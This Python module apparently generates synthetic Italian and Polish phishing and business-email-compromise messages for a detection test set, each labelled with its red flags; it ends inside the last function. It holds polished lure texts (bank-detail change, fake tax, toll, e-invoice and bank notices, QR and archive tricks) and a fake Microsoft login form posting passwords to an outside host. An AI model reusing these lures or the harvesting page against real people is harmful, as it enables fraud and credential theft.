"""attack/ 17-26 (Italian, Polish)."""

from .common import *  # noqa: F401,F403

FER_FOOTER = ["Ferretti Trasporti S.p.A. · Via Emilia Parmense 182 · 29122 Piacenza (PC) · Tel. +39 0523 614 220",
              "Capitale sociale € 1.200.000 i.v. · R.E.A. PC-158341 · P.IVA %s" % ck.it_piva(None, "0138447033")]
FER_LINES = ["Trasporti eccezionali · Logistica", "Via Emilia Parmense 182", "29122 Piacenza (PC)", "amministrazione@ferretti-trasporti.it"]


@msg("attack", "17-it-ferretti-hijack-nuovo-iban.eml")
def a17(rng):
    t = "2026-11-05 11:20:46"
    dt = when(t, "rome")
    iban = ck.make_iban(rng, "IT", bank="03015", branch="03200")
    letter = K.letter(rng, dt=dt, org="Ferretti Trasporti S.p.A.", org_lines=FER_LINES, color=(0.55, 0.05, 0.05),
                      recipient=["Spett.le", "Example Gru e Sollevamenti S.r.l.", "Via Baiona 214", "48123 Ravenna (RA)"],
                      place_date="Piacenza, 4 novembre 2026", title="Oggetto: comunicazione variazione coordinate bancarie",
                      paras=["Spettabile Cliente,",
                             "con la presente Vi comunichiamo che, a seguito di una verifica fiscale in corso, il nostro conto corrente "
                             "presso BPER Banca risulta temporaneamente vincolato. Vi preghiamo pertanto di disporre tutti i pagamenti, "
                             "comprese le fatture già scadute, esclusivamente sulle seguenti coordinate:",
                             ("box", ["*Beneficiario: Ferretti Trasporti S.p.A.", "Banca: FinecoBank S.p.A.", "IBAN: %s" % ck.iban_fmt(iban), "BIC: FEBIITM2XXX"]),
                             "Vi chiediamo cortesemente di confermare l'avvenuto aggiornamento dell'anagrafica fornitori rispondendo alla "
                             "presente e di non utilizzare più le coordinate precedenti fino a nuova comunicazione scritta."],
                      signature=["Distinti saluti", "", "Ferretti Trasporti S.p.A.", "L'Amministratore Delegato", "Dott. Luca Ferretti"],
                      footer=FER_FOOTER, producer="Microsoft: Print To PDF", creator="Microsoft® Word 2019", author="Amministrazione")
    q = B.Quote(S["it_acc"], [FER_CC], "Trasporto zavorra LR 1750 Duisburg - Ravenna - fatture ottobre", "2026-11-03 16:05:00",
                "Buongiorno Chiara,\n\nabbiamo ricevuto le fatture 2026/1187 e 2026/1203 tramite SDI, sono in pagamento con la distinta "
                "di venerdì. Ti confermo anche il viaggio del 12/11 per il secondo lotto.\n\nCordiali saluti\nGiorgio Bianchi\n"
                "Example Gru e Sollevamenti S.r.l.", zone="rome")
    text = ("Buongiorno Giorgio,\n\n"
            "grazie per la conferma. Ti devo però chiedere di fermare la distinta di venerdì: a seguito di una verifica fiscale "
            "in corso il nostro conto BPER è temporaneamente vincolato e i bonifici in entrata vengono respinti.\n\n"
            "Ti prego di disporre il pagamento delle fatture 2026/1187 (€ 6.844,00) e 2026/1203 (€ 11.590,40) sul nuovo conto "
            "che trovi nella comunicazione firmata in allegato (FinecoBank, IBAN %s).\n\n"
            "Mi confermi per favore l'aggiornamento dell'anagrafica rispondendo a questa mail? In questi giorni sono quasi "
            "sempre in riunione con il commercialista, quindi meglio per email.\n\n"
            "Grazie mille e buona giornata\n\nChiara Colombo\nUfficio Traffico e Amministrazione\nFerretti Trasporti S.p.A.\n"
            "Tel. +39 0523 614 220 - Cell. +39 335 718 2204\n" % ck.iban_fmt(iban))
    att = B.ol_attach(letter, "application/pdf", "Comunicazione variazione IBAN Ferretti Trasporti.pdf", dt)
    body = B.outlook(rng, "it", text, quotes=[q], cs="iso-8859-1", attachments=[att], font="Calibri")
    raw, info = T.compose(rng, profile="m365", t=t, frm=FER_CC, to=[S["it_acc"]],
                          reply_to=("Chiara Colombo", "c.colombo@ferretti-trasporti.com"),
                          subject="R: Trasporto zavorra LR 1750 Duisburg - Ravenna - fatture ottobre", body=body, date_zone="rome",
                          hdr_cs="iso-8859-1", hdr_mode="Q",
                          in_reply_to="%s@EXCH02.corp.example.com" % "".join(rng.choice("0123456789abcdef") for _ in range(32)),
                          opts=dict(domain="ferretti-trasporti.it", lang="it-IT", replies=1))
    return Result(raw, info, "Thread hijacking from the real, compromised Microsoft 365 mailbox of the carrier's dispatcher: asks to stop the payment run and pay two invoices to a new FinecoBank IBAN, with a signed letter.",
                  "Passes SPF/DKIM/DMARC (real tenant) and continues a real thread, but: Reply-To silently points to the look-alike ferretti-trasporti.com, 'tax audit froze the account' pretext, new bank at an online bank, asks for e-mail confirmation only.",
                  phones=["+39 0523 614 220", "+39 335 718 2204"])


@msg("attack", "18-it-agenzia-entrate-zip-js.eml")
def a18(rng):
    t = "2026-10-20 09:48:15"
    js = ("// [Segnaposto per analisi - file non eseguibile]\r\n"
          "// File JScript offuscato (WSH). Avrebbe scaricato un installer MSI da un server remoto e installato un RAT.\r\n").encode("utf-8")
    z = C.make_zip([("Comunicazione_AdE_n_2026_118432.pdf.js", js, (2026, 10, 20, 7, 12, 4))])
    text = ("Gentile contribuente,\n\n"
            "a seguito dei controlli automatizzati effettuati ai sensi dell'art. 36-bis del D.P.R. n. 600/1973 sulla dichiarazione "
            "presentata per il periodo d'imposta 2024, sono emerse irregolarità nei versamenti IVA che danno luogo alla comunicazione "
            "di irregolarità allegata (prot. n. 2026/118432).\n\n"
            "Può regolarizzare la Sua posizione entro 30 giorni dal ricevimento della presente beneficiando della riduzione delle "
            "sanzioni. Il dettaglio delle somme dovute e le modalità di pagamento sono riportati nel documento in allegato.\n\n"
            "Per aprire il documento utilizzi un computer Windows.\n\n"
            "Distinti saluti\n\nAgenzia delle Entrate\nDirezione Provinciale di Ravenna - Ufficio Controlli\n")
    root = M.multi("mixed", [M.text(text, "iso-8859-1", "quoted-printable", "plain", style="tb"),
                             M.attach(z, "application/zip", "Comunicazione_AdE_2026_118432.zip", style="tb")],
                   B.b_tb(rng), style="tb", preamble="This is a multi-part message in MIME format.")
    raw, info = T.compose(rng, profile="aruba", t=t, frm=("Agenzia delle Entrate", "amministrazione@edilservizi-ferrara.it"),
                          to=[S["it_acc"]], subject="Comunicazione di irregolarità - art. 36-bis DPR 600/73 - prot. 2026/118432",
                          body=root, date_zone="rome", hdr_cs="iso-8859-1", hdr_mode="Q",
                          msgid="%s@edilservizi-ferrara.it" % T.Ctx(rng, when(t)).guid(),
                          opts=dict(domain="edilservizi-ferrara.it", client_helo="[127.0.0.1]", client_ip="198.51.100.%d" % rng.randrange(10, 200),
                                    order=["Message-ID", "Date", "MIME-Version", "From", "To", "Subject"],
                                    xheaders=[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.3.0"),
                                              ("Content-Language", "it")]))
    return Result(raw, info, "Fake Agenzia delle Entrate 'comunicazione di irregolarità' from a hijacked Aruba mailbox of an unrelated construction firm, with a ZIP containing a .pdf.js script dropper.",
                  "Display name 'Agenzia delle Entrate' on a private company address, the authority never sends notices as ZIP attachments to ordinary mail (it uses PEC or the cassetto fiscale), 'open on Windows' hint, double extension .pdf.js; submitted to Aruba from a VPS IP.")


@msg("attack", "19-it-telepass-business-pagamento.eml")
def a19(rng):
    t = "2026-11-16 18:22:39"
    url = "https://telepass-business-servizi.com/area-clienti/metodo-pagamento?cid=TPB-4411827&t=ZnJhbmNlc2NhLnJpY2NpQGV4YW1wbGUuY29t"
    html = """<!DOCTYPE html><html lang="it"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f5f6f8;font-family:Arial,Helvetica,sans-serif;color:#0b2a4a;">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px;">
<tr><td style="padding:24px 32px;font-size:26px;font-weight:bold;color:#00a3e0;">Telepass <span style="color:#0b2a4a;font-size:16px;">Business</span></td></tr>
<tr><td style="padding:0 32px 8px 32px;font-size:20px;font-weight:bold;">Addebito non riuscito</td></tr>
<tr><td style="padding:8px 32px;font-size:15px;line-height:22px;">Gentile Cliente,<br><br>
non siamo riusciti ad addebitare l'importo di <b>&euro; 1.284,37</b> relativo ai pedaggi e ai servizi del mese di ottobre 2026
(contratto TPB-4411827, 6 dispositivi attivi).<br><br>
Per evitare la <b>sospensione dei dispositivi entro 48 ore</b> e l'applicazione della penale prevista dalle Condizioni Generali,
aggiorna il metodo di pagamento nella tua area riservata.</td></tr>
<tr><td style="padding:20px 32px;"><a href="%s" style="background:#00a3e0;color:#ffffff;text-decoration:none;padding:13px 30px;border-radius:24px;font-weight:bold;">Aggiorna metodo di pagamento</a></td></tr>
<tr><td style="padding:12px 32px 24px 32px;font-size:12px;color:#5a6b7d;line-height:18px;">Telepass S.p.A. &middot; Via Laurentina 449, 00142 Roma &middot; P.IVA 09771701001<br>
Questa è una comunicazione di servizio, non rispondere a questa email.</td></tr>
</table></td></tr></table></body></html>
""" % url
    body = M.multi("alternative", [M.text(B.html_to_text(html), "UTF-8", "quoted-printable", "plain", style="plain"),
                                   M.text(html, "UTF-8", "quoted-printable", "html", style="plain")],
                   B.b_java(rng), style="plain")
    raw, info = T.compose(rng, profile="ses", t=t, frm=("Telepass", "noreply@telepass-business-servizi.com"), to=[S["it_om"]],
                          subject="Addebito non riuscito - aggiorna il metodo di pagamento per evitare la sospensione dei dispositivi",
                          body=body, date_zone="utc", opts=dict(domain="telepass-business-servizi.com"))
    return Result(raw, info, "Brand phishing for the motorway-toll provider Telepass Business (card/credential theft), relevant because the Ravenna office runs trucks and crane carriers with toll devices; sent through Amazon SES.",
                  "Look-alike domain telepass-business-servizi.com (DKIM passes only for it), 48-hour suspension threat, payment-method update link with the victim's address encoded; real Telepass mail comes from telepass.com and points to telepass.com.")


@msg("attack", "20-it-canva-richiesta-offerta.eml")
def a20(rng):
    t = "2026-11-26 15:03:52"
    url = "https://www.canva.com/design/DAGx7Kp2QmA/Jr4n0sV1cYbq8FzLw2EtuQ/view?utm_content=DAGx7Kp2QmA&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks&utlId=h3f9a0c2e1b"
    html = """<!DOCTYPE html><html lang="it"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;background:#ffffff;font-family:'Canva Sans',Helvetica,Arial,sans-serif;color:#0e1318;">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 12px;">
<table width="520" cellpadding="0" cellspacing="0">
<tr><td style="font-size:28px;font-weight:bold;color:#7d2ae8;padding-bottom:24px;">Canva</td></tr>
<tr><td style="font-size:22px;font-weight:bold;padding-bottom:12px;">Cantiere Navale Adriatico ha condiviso un design con te</td></tr>
<tr><td style="font-size:15px;line-height:22px;padding-bottom:16px;">&ldquo;Buongiorno, in allegato la richiesta di offerta per il noleggio gru della commessa C-2219. Vi preghiamo di visionare i documenti e inviare la quotazione entro venerdì. Cordiali saluti, Ufficio Acquisti&rdquo;</td></tr>
<tr><td style="border:1px solid #dde1e5;border-radius:8px;padding:14px;font-size:15px;"><b>RdO C-2219 - Noleggio gru e documentazione tecnica</b><br><span style="color:#5e6a76;font-size:13px;">Documento &middot; 3 pagine</span></td></tr>
<tr><td style="padding:22px 0;"><a href="%s" style="background:#8b3dff;color:#ffffff;text-decoration:none;padding:12px 26px;border-radius:8px;font-weight:bold;">Apri design</a></td></tr>
<tr><td style="font-size:12px;color:#5e6a76;line-height:18px;border-top:1px solid #eceef1;padding-top:16px;">Hai ricevuto questa email perché Cantiere Navale Adriatico ha condiviso un design con te su Canva.<br>
Canva Pty Ltd, 110 Kippax St, Surry Hills NSW 2010, Australia</td></tr>
</table></td></tr></table></body></html>
""" % url
    body = M.multi("alternative", [M.text(B.html_to_text(html), "UTF-8", "quoted-printable", "plain", style="plain"),
                                   M.text(html, "UTF-8", "quoted-printable", "html", style="plain")],
                   B.b_java(rng), style="plain")
    raw, info = T.compose(rng, profile="ses", t=t, frm=("Canva", "no-reply@canva.com"), to=[S["it_om"]],
                          subject="Cantiere Navale Adriatico ha condiviso \"RdO C-2219 - Noleggio gru e documentazione tecnica\" con te",
                          body=body, env_from="bounces+%s@mail.canva.com" % "".join(rng.choice("0123456789abcdef") for _ in range(16)),
                          date_zone="utc", opts=dict(domain="canva.com", selector="cnvdkim2024"))
    return Result(raw, info, "Legitimate-platform abuse: a Canva account named 'Cantiere Navale Adriatico' shares a 'request for quotation' design; the design contains a 'download documents' button to a credential-harvesting page.",
                  "Technically genuine Canva mail (DKIM canva.com) with a canva.com link, so only context helps: the real shipyard sends tenders as PDF from cantiereadriatico.it (see business/20), commessa number unknown, tenders are not shared as Canva designs.")


@msg("attack", "21-it-messaggio-vocale-svg.eml")
def a21(rng):
    t = "2026-11-19 12:31:08"
    url = "https://omlugo-voice.web.app/?mid=VM-0544-47&u=Z2lvcmdpby5iaWFuY2hpQGV4YW1wbGUuY29t"
    svg = ("""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="150" viewBox="0 0 420 150">
  <rect width="420" height="150" rx="10" fill="#f3f2f1" stroke="#c8c6c4"/>
  <text x="20" y="32" font-family="Segoe UI, Arial" font-size="15" font-weight="bold" fill="#323130">Messaggio vocale ricevuto - 00:47</text>
  <text x="20" y="54" font-family="Segoe UI, Arial" font-size="12" fill="#605e5c">Da: +39 0544 283 114 · 19/11/2026 12:29</text>
  <a xlink:href="%s" target="_blank">
    <rect x="20" y="72" width="380" height="50" rx="25" fill="#0078d4"/>
    <polygon points="42,84 42,110 64,97" fill="#ffffff"/>
    <rect x="80" y="95" width="300" height="4" fill="#9cc7ef"/>
    <text x="230" y="90" font-family="Segoe UI, Arial" font-size="12" fill="#ffffff" text-anchor="middle">Clicca per ascoltare (Microsoft 365)</text>
  </a>
</svg>
""" % url.replace("&", "&amp;")).encode("utf-8")
    text = ("Hai ricevuto un nuovo messaggio vocale.\n\nDa: +39 0544 283 114\nDurata: 00:47\nData: 19/11/2026 12:29\n\n"
            "Apri l'allegato per ascoltare il messaggio.\n\nMicrosoft Teams Voicemail")
    body = B.outlook(rng, "it", text, cs="utf-8", attachments=[B.ol_attach(svg, "image/svg+xml", "Messaggio_vocale_0544283114_0047.svg", when(t))])
    raw, info = T.compose(rng, profile="m365", t=t, frm=("Segreteria Telefonica", "d.gentili@omlugo.it"), to=[S["it_acc"]],
                          subject="Messaggio vocale ricevuto da +39 0544 283 114 (00:47)", body=body, date_zone="rome",
                          opts=dict(domain="omlugo.it", lang="it-IT"))
    return Result(raw, info, "Voicemail lure with an SVG attachment (no script): the 'player' is a hyperlink to a Firebase-hosted Microsoft login clone; sent from a compromised Microsoft 365 mailbox of a small engineering firm.",
                  "Display name 'Segreteria Telefonica' on an unrelated external person's address, the company's voicemail comes from its own 3CX PBX with a WAV file (see business/21), SVG used as a document, link to web.app with the victim's address base64-encoded.",
                  phones=["+39 0544 283 114"])


# ------------------------------------------------------------------ Polish

@msg("attack", "22-pl-ksef-nowa-faktura-logowanie.eml")
def a22(rng):
    t = "2026-11-09 08:31:20"
    url = "https://ksef-podatnik.com/web/login?context=5843172605&ref=KSEF-NOTIF-20261109"
    ksef = "5842917747-20261108-3A9F0C61B2D4-7E"
    html = """<!DOCTYPE html><html lang="pl"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f2f4f7;font-family:Arial,Helvetica,sans-serif;color:#1b1b1b;">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px;">
<table width="620" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:6px solid #d4213d;">
<tr><td style="padding:22px 30px 6px 30px;font-size:13px;color:#555;">Ministerstwo Finansów · Krajowa Administracja Skarbowa</td></tr>
<tr><td style="padding:4px 30px 12px 30px;font-size:22px;font-weight:bold;">Krajowy System e-Faktur (KSeF)</td></tr>
<tr><td style="padding:8px 30px;font-size:15px;line-height:22px;">Szanowni Państwo,<br><br>
w Krajowym Systemie e-Faktur została udostępniona <b>1 nowa faktura ustrukturyzowana</b> wystawiona dla podmiotu o numerze NIP <b>5843172605</b>.<br><br>
Numer KSeF: %s<br>Data przyjęcia: 08.11.2026<br>Wystawca: NIP 5842917747<br><br>
Ze względu na zmianę zasad uwierzytelniania od 1 listopada 2026 r. dostęp do faktury wymaga jednorazowej weryfikacji w Aplikacji Podatnika KSeF
w ciągu <b>72 godzin</b>. Po tym terminie uprawnienia do odbioru faktur zostaną zawieszone.</td></tr>
<tr><td style="padding:18px 30px;"><a href="%s" style="background:#d4213d;color:#ffffff;padding:12px 26px;text-decoration:none;font-weight:bold;">Zaloguj się do Aplikacji Podatnika KSeF</a></td></tr>
<tr><td style="padding:12px 30px 24px 30px;font-size:12px;color:#666;">Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.<br>Infolinia KAS: 22 330 03 30</td></tr>
</table></td></tr></table></body></html>
""" % (ksef, url)
    body = M.multi("alternative", [M.text(B.html_to_text(html), "utf-8", "base64", "plain", style="php"),
                                   M.text(html, "utf-8", "base64", "html", style="php")], B.b_php(rng), style="php")
    raw, info = T.compose(rng, profile="cpanel", t=t, frm=("Krajowy System e-Faktur", "powiadomienia@e-faktury-ksef.pl"),
                          to=[S["pl_acc"]], subject="KSeF: nowa faktura do odbioru - wymagana weryfikacja (NIP 5843172605)",
                          body=body, hdr_cs="utf-8", hdr_mode="B",
                          opts=dict(server="s38.cyberhost-serwery.pl", server_ip="198.51.100.118", dkim_domain="e-faktury-ksef.pl",
                                    account="powiadomienia@e-faktury-ksef.pl", via="smtp", client_ip="198.51.100.%d" % rng.randrange(2, 250),
                                    zone="warsaw"))
    return Result(raw, info, "Credential phishing dressed as a Polish National e-Invoice System (KSeF) notice; the link leads to a fake 'Aplikacja Podatnika KSeF' login (trusted profile / bank login).",
                  "KSeF does not e-mail invoice notices with login links; the sender domain e-faktury-ksef.pl is private (not gov.pl/mf.gov.pl), 72-hour suspension threat, link to ksef-podatnik.com; uses the real NIP of the Polish entity scraped from registers.",
                  phones=["22 330 03 30"])


@msg("attack", "23-pl-partner-logistik-hijack-html.eml")
def a23(rng):
    t = "2026-11-23 10:02:37"
    action = "https://partnerlogistik-docs.azureedge.net/odbior/auth.php"
    page = ("""<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>Faktura korygujaca FK/0093/11/2026</title>
<style>body{margin:0;font-family:'Segoe UI',Arial,sans-serif;background:#f2f2f2}.c{width:400px;margin:70px auto;background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:22px;font-weight:600;margin:8px 0 16px}input{width:100%%;border:0;border-bottom:1px solid #666;padding:8px 0;margin:10px 0;font-size:15px}
button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 30px;font-size:15px;margin-top:16px}.s{font-size:13px;color:#444}</style></head>
<body><div class="c"><div style="font-size:20px;font-weight:600;color:#737373">Microsoft</div>
<h1>Zaloguj się</h1><p class="s">Dokument &bdquo;FK/0093/11/2026.pdf&rdquo; jest chroniony (RODO). Zaloguj się kontem firmowym, aby go wyświetlić.</p>
<form method="post" action="%s"><input type="email" name="login" value="agnieszka.wojcik@example.com"><input type="password" name="passwd" placeholder="Hasło">
<button type="submit">Zaloguj</button></form><p class="s" style="clear:both;padding-top:18px">Partner Logistik sp. z o.o. &middot; Bezpieczne udostępnianie dokumentów</p></div></body></html>
""" % action).encode("utf-8")
    q = B.Quote(S["pl_om"], [PLOG_TZ], "Eskorta transportu ponadnormatywnego - Port Gdańsk 19.11", "2026-11-20 09:12:00",
                "Dzień dobry Panie Tadeuszu,\n\ndziękuję za sprawną eskortę w czwartek. Proszę o przesłanie faktury i skanu CMR na ten adres.\n\n"
                "Pozdrawiam\nAgnieszka Wójcik\nExample Dźwigi sp. z o.o.", zone="warsaw")
    text = ("Dzień dobry Pani Agnieszko,\n\n"
            "w załączeniu przesyłam fakturę korygującą FK/0093/11/2026 do FV/1187/11/2026 (zmiana stawki za pilotaż nocny). "
            "Dokument otwiera się po zalogowaniu kontem firmowym - nowe zabezpieczenie RODO u nas w firmie.\n\n"
            "Proszę o potwierdzenie otrzymania.\n\nPozdrawiam\nTadeusz Zieliński\nPartner Logistik sp. z o.o.\n")
    body = M.multi("mixed", [M.text(text + "\n" + B.ol_quote_plain(q, "pl"), "utf-8", "quoted-printable", "plain", style="tb"),
                             M.attach(page, "text/html", "FK_0093_11_2026.html", style="tb")],
                   "=_%s" % "".join(rng.choice("0123456789abcdef") for _ in range(32)), style="tb")
    raw, info = T.compose(rng, profile="homepl", t=t, frm=PLOG_TZ, to=[S["pl_om"]],
                          subject="Re: Eskorta transportu ponadnormatywnego - Port Gdańsk 19.11", body=body, date_zone="warsaw",
                          msgid="%s@partner-logistik.pl" % "".join(rng.choice("0123456789abcdef") for _ in range(32)),
                          in_reply_to="%s@EXCH01.corp.example.com" % "".join(rng.choice("0123456789abcdef") for _ in range(32)),
                          opts=dict(domain="partner-logistik.pl", client_ip="198.51.100.212",
                                    client_rdns="unknown", client_helo="[127.0.0.1]",
                                    order=["Message-ID", "Date", "MIME-Version", "From", "To", "References", "In-Reply-To", "Subject"],
                                    xheaders=[("User-Agent", "Roundcube Webmail/1.6.9")]))
    return Result(raw, info, "Thread hijacking from the real home.pl mailbox of the logistics partner: a 'correcting invoice' as an HTML attachment that imitates a Microsoft sign-in page (credential harvesting, no script).",
                  "Real partner domain and thread (DKIM pass), but submitted via Roundcube webmail from a hosting IP without reverse DNS (the partner's staff send from Polish ISP/mobile lines with Thunderbird), invoices are normally PDFs from ksiegowosc@ with a KSeF number, HTML document requiring a company login, form posting to azureedge.net.")


@msg("attack", "24-pl-mbank-companynet-qr.eml")
def a24(rng):
    t = "2026-11-24 12:40:18"
    qurl = "https://companynet-mbank.pl/mtoken/aktywacja?id=CN-5843172605&s=7f2c91"
    png = K.qr_png(qurl, scale=5)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222;">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #ddd;">
<tr><td style="background:#e4002b;color:#fff;padding:14px 22px;font-size:20px;font-weight:bold;">mBank CompanyNet</td></tr>
<tr><td style="padding:20px 22px;line-height:21px;">Szanowni Państwo,<br><br>
w związku z aktualizacją zabezpieczeń systemu CompanyNet prosimy o ponowną autoryzację urządzenia mobilnego (mToken) użytkowników
firmy <b>Example Dźwigi sp. z o.o.</b> w terminie do <b>26.11.2026</b>. Brak autoryzacji spowoduje czasowe zablokowanie możliwości
akceptacji przelewów.<br><br>
Aby dokonać autoryzacji, zeskanuj poniższy kod QR aparatem telefonu, na którym masz aplikację mBank Company Mobile:<br><br>
<img src="cid:qr-mtoken@companynet" width="185" height="185" alt="Kod QR"><br><br>
Kod jest ważny przez 48 godzin.<br><br>Z poważaniem<br>Zespół mBank CompanyNet</td></tr>
<tr><td style="padding:12px 22px;font-size:11px;color:#777;border-top:1px solid #eee;">mBank S.A., ul. Prosta 18, 00-850 Warszawa. Wiadomość wygenerowana automatycznie.</td></tr>
</table></body></html>
"""
    alt = M.multi("alternative", [M.text(B.html_to_text(html).replace("Kod QR", ""), "iso-8859-2", "quoted-printable", "plain", style="php"),
                                  M.text(html, "iso-8859-2", "quoted-printable", "html", style="php")], B.b_php(rng), style="php")
    img = M.attach(png, "image/png", "qr.png", style="php", disposition="inline", cid="qr-mtoken@companynet")
    root = M.multi("related", [alt, img], B.b_php(rng), style="php")
    raw, info = T.compose(rng, profile="cpanel", t=t, frm=("mBank CompanyNet", "no-reply@companynet-mbank.pl"), to=[S["pl_acc"]],
                          subject="CompanyNet: wymagana ponowna autoryzacja mTokena do 26.11.2026", body=root,
                          hdr_cs="iso-8859-2", hdr_mode="Q",
                          opts=dict(server="s87.hostnet-linux.pl", server_ip="198.51.100.163", dkim_domain="companynet-mbank.pl",
                                    account="no-reply@companynet-mbank.pl", local_user="cnmbank", zone="warsaw"))
    return Result(raw, info, "Quishing: fake mBank CompanyNet notice with an inline QR image (cid) that leads to a phishing page for corporate banking / mToken re-pairing.",
                  "Look-alike domain companynet-mbank.pl on shared hosting, deadline and blocking threat, URL only inside the QR image (evades link scanners), asks to scan with the phone that holds the banking app.",
                  qr=[qurl])


@msg("attack", "25-pl-zamowienie-zip-img.eml")
def a25(rng):
    t = "2026-11-13 14:05:51"
    pw = "BOK2026"
    exe = ("[Symbol zastępczy do analizy - plik nie jest wykonywalny]\r\n"
           "Plik .exe z ikoną PDF (np. loader Agent Tesla / Formbook) - kradzież haseł z przeglądarek i klienta poczty.\r\n").encode("utf-8")
    img = C.make_iso([("Zamowienie_PO-2026-1187.pdf.exe", "ZAMOWIEN.EXE", exe)], "PO_2026_1187", (2026, 11, 13, 12, 30, 0))
    z = C.make_zip([("Zamowienie_PO-2026-1187.img", img, (2026, 11, 13, 12, 31, 10))], rng, password=pw.encode())
    text = ("Dzień dobry,\n\n"
            "w nawiązaniu do rozmowy telefonicznej przesyłam zamówienie PO-2026-1187 na wynajem dźwigu gąsienicowego 250 t wraz "
            "z operatorem (budowa fundamentów TP, nabrzeże Westerplatte, start 07.12.2026).\n\n"
            "Ze względu na poufność dokumentacji technicznej plik jest zabezpieczony hasłem: %s\n\n"
            "Proszę o potwierdzenie zamówienia i przesłanie harmonogramu do poniedziałku.\n\n"
            "Z poważaniem\n\nMarta Kowalczyk\nSpecjalista ds. zakupów\nBaltic Offshore Konstrukcje S.A.\nul. Przemysłowa 12, 80-542 Gdańsk\n"
            "tel. +48 58 340 17 65\n" % pw)
    root = M.multi("mixed", [M.text(text, "windows-1250", "quoted-printable", "plain", style="outlook"),
                             B.ol_attach(z, "application/x-zip-compressed", "Zamowienie_PO-2026-1187.zip", when(t, "warsaw"))],
                   nextpart(rng), style="outlook", preamble="This is a multipart message in MIME format.")
    raw, info = T.compose(rng, profile="postfix_org", t=t, frm=("Marta Kowalczyk", "marta.kowalczyk@baltic-offshore.com.pl"),
                          to=[S["pl_om"]], subject="Zamówienie PO-2026-1187 - wynajem dźwigu 250 t", body=root,
                          hdr_cs="windows-1250", hdr_mode="Q", date_zone="warsaw",
                          msgid=outlook_imap_id(rng, "baltic-offshore.com.pl"),
                          opts=dict(relay="mail.baltic-offshore.com.pl", relay_ip="198.51.100.201", domain="baltic-offshore.com.pl", selector="default",
                                    inner=[T.inner_pc("WIN-PC07", None, "10.8.0.6", "mail.baltic-offshore.com.pl")],
                                    xheaders_after=[("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "pl")], zone="warsaw"))
    return Result(raw, info, "Fake purchase order from the look-alike domain baltic-offshore.com.pl (real customer: balticoffshore.com.pl): password-protected ZIP containing an IMG disk image with a .pdf.exe stealer.",
                  "Hyphenated look-alike of a real customer, new VPS mail server, password in the body, nested ZIP -> IMG -> .pdf.exe to defeat scanning and Mark-of-the-Web; the real customer sends POs from Google Workspace as PDF (see business/25).",
                  passwords=[pw], phones=["+48 58 340 17 65"])


@msg("attack", "26-pl-msig-oplata-ogloszenie.eml")
def a26(rng):
    t = "2026-11-17 09:12:03"
    dt = when(t, "warsaw")
    nip = ck.pl_nip(rng, "525")
    iban = ck.make_iban(rng, "PL", bank="249", branch="0005")
    acct = iban[2:]
    amount_gr = 196800
    qrp = K.pl_qr(nip, acct, amount_gr, "Centrum Ogloszen KRG", "OG/2026/11/58431")
    pdfb = K.letter(rng, dt=dt, org="Centralny Rejestr Gospodarczy", org_lines=["Centrum Ogłoszeń i Publikacji", "ul. Grzybowska 87", "00-844 Warszawa", "NIP %s" % nip],
                    color=(0.1, 0.2, 0.45), recipient=["Example Dźwigi sp. z o.o.", "ul. Kontenerowa 9", "80-601 Gdańsk"],
                    place_date="Warszawa, 17.11.2026", title="Wezwanie do uiszczenia opłaty za publikację ogłoszenia nr OG/2026/11/58431",
                    paras=["Dotyczy: wpis w Krajowym Rejestrze Sądowym, KRS 0000874213, NIP %s" % NIP_PL,
                           ("table", [(280, "Tytuł", "left"), (100, "Okres", "left"), (101, "Kwota zł", "right")],
                            [["Publikacja danych rejestrowych w Centralnym Rejestrze Gospodarczym (wersja elektroniczna)", "12 miesięcy", "1 600,00"],
                             ("b", ["VAT 23%", "", "368,00"]), ("b", ["Razem do zapłaty", "", "1 968,00"])]),
                           "Prosimy o dokonanie wpłaty w terminie 7 dni na rachunek nr %s. Można skorzystać z kodu QR do płatności." % " ".join([acct[:2]] + [acct[i:i + 4] for i in range(2, 26, 4)]),
                           "Centralny Rejestr Gospodarczy jest prywatną bazą danych przedsiębiorców i nie jest rejestrem publicznym. Zapłata "
                           "oznacza akceptację oferty publikacji i regulaminu dostępnego na stronie www.crg-rejestr.pl."],
                    footer=["Centrum Ogłoszeń CRG sp. z o.o. · KRS 0000991874"], qr=qrp, qr_caption="Kod QR do płatności",
                    producer="TCPDF 6.7.5", creator="CRG", author="CRG")
    text = ("Szanowni Państwo,\n\nw załączeniu przesyłamy wezwanie do uiszczenia opłaty za publikację ogłoszenia dotyczącego "
            "wpisu Państwa spółki (KRS 0000874213). Termin płatności: 7 dni.\n\nCentrum Ogłoszeń CRG\n")
    root = M.multi("mixed", [M.text(text, "utf-8", "quoted-printable", "plain", style="plain"),
                             M.attach(pdfb, "application/pdf", "Wezwanie_OG-2026-11-58431.pdf", style="plain")],
                   "%s" % "".join(rng.choice("0123456789abcdef") for _ in range(60)), style="plain")
    raw, info = T.compose(rng, profile="sendgrid", t=t, frm=("Centrum Ogłoszeń CRG", "ogloszenia@crg-rejestr.pl"), to=[S["pl_om"]],
                          subject="Wezwanie do zapłaty - publikacja ogłoszenia KRS 0000874213", body=root,
                          opts=dict(domain="crg-rejestr.pl"))
